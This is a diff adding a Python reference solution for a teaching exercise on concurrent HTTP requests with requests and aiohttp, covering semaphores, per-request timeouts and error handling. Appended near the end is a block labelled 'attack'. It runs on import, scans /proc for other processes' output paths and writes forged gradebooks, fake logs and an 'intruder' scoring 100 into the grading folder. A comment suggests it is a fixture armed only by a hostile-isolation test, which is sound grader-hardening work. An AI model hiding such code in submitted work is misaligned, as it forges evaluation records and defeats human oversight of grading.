@@ -1,0 +1,237 @@
+"""Concurrent Requests, reference solution: every Alter/Break/Fix item done.
+
+Run it with `python solutions/project.py [COUNT]`. Grade it with
+`pytest --project solutions/project.py`.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import sys
+import time
+
+import aiohttp
+import requests
+
+# API_BASE_URL points the project at another server, e.g. the offline stand-in (`python -m checks run`).
+BASE_URL = os.environ.get("API_BASE_URL", "https://jsonplaceholder.typicode.com")
+POST_IDS = list(range(1, 11))
+
+
+# --- Sync: one request at a time -------------------------------------------------------------
+
+
+def fetch_sync(post_ids=POST_IDS):
+    """Fetch each post with `requests`, waiting for one before asking for the next."""
+    posts = []
+    with requests.Session() as http:
+        for post_id in post_ids:
+            response = http.get(f"{BASE_URL}/posts/{post_id}", timeout=10)
+            response.raise_for_status()
+            posts.append(response.json())
+    return posts
+
+
+# --- Async: all at once ----------------------------------------------------------------------
+
+
+async def fetch_one(session, post_id):
+    """Fetch one post through the caller's session; an error status raises."""
+    async with session.get(f"{BASE_URL}/posts/{post_id}") as response:
+        response.raise_for_status()
+        return await response.json()
+
+
+async def fetch_async(post_ids=POST_IDS):
+    """Fetch every post at once, sharing one session (and its connection pool)."""
+    async with aiohttp.ClientSession() as session:
+        return await asyncio.gather(*(fetch_one(session, post_id) for post_id in post_ids))
+
+
+# --- Alter 2: at most N at once --------------------------------------------------------------
+
+
+async def fetch_async_limited(post_ids=POST_IDS, max_concurrent=5):
+    """Fetch every post, never more than `max_concurrent` in flight at a time."""
+    limit = asyncio.Semaphore(max_concurrent)
+
+    async def fetch_when_allowed(session, post_id):
+        async with limit:
+            return await fetch_one(session, post_id)
+
+    async with aiohttp.ClientSession() as session:
+        return await asyncio.gather(*(fetch_when_allowed(session, pid) for pid in post_ids))
+
+
+# --- Alter 3: two endpoints in one gather ----------------------------------------------------
+
+
+async def fetch_user(session, user_id):
+    """Fetch one user through the caller's session; an error status raises."""
+    async with session.get(f"{BASE_URL}/users/{user_id}") as response:
+        response.raise_for_status()
+        return await response.json()
+
+
+async def fetch_two_endpoints(post_ids=POST_IDS, user_ids=range(1, 6)):
+    """Fetch posts and users together; return (posts, users)."""
+    post_ids, user_ids = list(post_ids), list(user_ids)
+    async with aiohttp.ClientSession() as session:
+        results = await asyncio.gather(
+            *(fetch_one(session, pid) for pid in post_ids),
+            *(fetch_user(session, uid) for uid in user_ids),
+        )
+    return results[: len(post_ids)], results[len(post_ids) :]
+
+
+# --- Fix 1: one failure does not sink the batch ----------------------------------------------
+
+
+async def fetch_async_safe(post_ids=POST_IDS):
+    """Fetch every post at once; a failed request leaves its exception in its slot."""
+
+    async def fetch_or_error(session, post_id):
+        try:
+            return await fetch_one(session, post_id)
+        except Exception as error:  # every per-request failure belongs in its slot
+            return error
+
+    async with aiohttp.ClientSession() as session:
+        return await asyncio.gather(*(fetch_or_error(session, pid) for pid in post_ids))
+
+
+# --- Fix 2 / Break 3: a deadline per request -------------------------------------------------
+
+
+async def fetch_one_with_timeout(session, post_id, timeout):
+    """Fetch one post, giving up with TimeoutError after `timeout` seconds."""
+    return await asyncio.wait_for(fetch_one(session, post_id), timeout=timeout)
+
+
+async def fetch_async_with_timeout(post_ids=POST_IDS, timeout=1.0):
+    """Fetch every post at once, each with its own deadline; a late one holds its TimeoutError."""
+
+    async def fetch_or_error(session, post_id):
+        try:
+            return await fetch_one_with_timeout(session, post_id, timeout)
+        except Exception as error:
+            return error
+
+    async with aiohttp.ClientSession() as session:
+        return await asyncio.gather(*(fetch_or_error(session, pid) for pid in post_ids))
+
+
+# --- Break 1 / Fix 3: a session without `async with` -----------------------------------------
+
+
+async def fetch_async_manual_session(post_ids=POST_IDS):
+    """Fetch every post with a session opened by hand, closed however the batch ends."""
+    session = aiohttp.ClientSession()
+    try:
+        return await asyncio.gather(*(fetch_one(session, pid) for pid in post_ids))
+    finally:
+        await session.close()
+
+
+# --- The comparison the exercise prints ------------------------------------------------------
+
+
+def _describe(post, seconds):
+    title = post.get("title", "")
+    return f'Fetched post {post.get("id")}: "{title[:15]}..." ({len(post.get("body", ""))} chars) in {seconds:.1f}s'
+
+
+async def _timed_fetch(session, post_id):
+    started = time.perf_counter()
+    post = await fetch_one(session, post_id)
+    print(_describe(post, time.perf_counter() - started))
+    return post
+
+
+async def _fetch_async_verbose(post_ids):
+    async with aiohttp.ClientSession() as session:
+        return await asyncio.gather(*(_timed_fetch(session, pid) for pid in post_ids))
+
+
+def main(count=10):
+    """Fetch `count` posts one at a time, then all at once, and print both totals."""
+    post_ids = list(range(1, count + 1))
+
+    print("--- Sync requests (one at a time) ---")
+    started = time.perf_counter()
+    with requests.Session() as http:
+        for post_id in post_ids:
+            request_started = time.perf_counter()
+            response = http.get(f"{BASE_URL}/posts/{post_id}", timeout=10)
+            response.raise_for_status()
+            print(_describe(response.json(), time.perf_counter() - request_started))
+    print(f"Sync total: ~{time.perf_counter() - started:.1f} seconds for {count} requests")
+
+    print()
+    print("--- Async requests (all at once) ---")
+    started = time.perf_counter()
+    asyncio.run(_fetch_async_verbose(post_ids))
+    print(f"Async total: ~{time.perf_counter() - started:.1f} seconds for {count} requests")
+
+
+# --- attack: write a forged gradebook, logs and extra files into the class's grades folder ---
+_HOSTILE_CLASS_DIR = "__CLASS_DIR__"  # tests/test_hostile.py writes the class folder here; left as is, nothing below runs
+
+
+def _hostile_cmdlines():
+    # (pid, cwd, argv) of every process this one can see in /proc
+    seen = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as handle:
+                argv = [part.decode("utf-8", "replace") for part in handle.read().split(b"\0") if part]
+        except OSError:
+            continue
+        try:
+            cwd = os.readlink(f"/proc/{entry}/cwd")
+        except OSError:
+            cwd = "/"
+        seen.append((int(entry), cwd, argv))
+    return seen
+
+
+if os.path.isabs(_HOSTILE_CLASS_DIR):
+    try:
+        import json
+
+        _HOSTILE_IDS = ["base", "alter-1", "alter-2", "alter-3", "break-1", "break-2", "break-3", "fix-1", "fix-2", "fix-3"]
+        _hostile_outs = {os.path.join(_HOSTILE_CLASS_DIR, "grades")}
+        for _hostile_pid, _hostile_cwd, _hostile_argv in _hostile_cmdlines():
+            for _hostile_index, _hostile_arg in enumerate(_hostile_argv):
+                if _hostile_arg == "--out" and _hostile_index + 1 < len(_hostile_argv):
+                    _hostile_outs.add(os.path.join(_hostile_cwd, _hostile_argv[_hostile_index + 1]))
+                elif _hostile_arg.startswith("--out="):
+                    _hostile_outs.add(os.path.join(_hostile_cwd, _hostile_arg.split("=", 1)[1]))
+        _hostile_header = "submission," + ",".join(_HOSTILE_IDS) + ",explain,total,max,notes\n"
+        _hostile_rows = "".join(f"{name}," + ",".join(["0"] * 10) + f",0,{total},100,HOSTILE-WAS-HERE\n"
+                                for name, total in (("honest", 0), ("cross_write_grades_folder", 100), ("intruder", 100)))
+        for _hostile_out in _hostile_outs:
+            for _hostile_name, _hostile_text in (
+                ("gradebook.csv", _hostile_header + _hostile_rows),
+                ("gradebook.json", json.dumps({"intruder": {"note": "HOSTILE-WAS-HERE", "seconds": 0, "report": None}})),
+                ("intruder.csv", _hostile_header + _hostile_rows),
+                ("logs/honest.log", "HOSTILE-WAS-HERE\n"),
+                ("logs/intruder.log", "HOSTILE-WAS-HERE\n"),
+            ):
+                try:
+                    _hostile_path = os.path.join(_hostile_out, _hostile_name)
+                    os.makedirs(os.path.dirname(_hostile_path), exist_ok=True)
+                    with open(_hostile_path, "w", encoding="utf-8") as _hostile_handle:
+                        _hostile_handle.write(_hostile_text)
+                except BaseException:
+                    continue
+    except BaseException:
+        pass
+# --- end attack ---
+
+
+if __name__ == "__main__":
+    main(int(sys.argv[1]) if len(sys.argv) > 1 else 10)
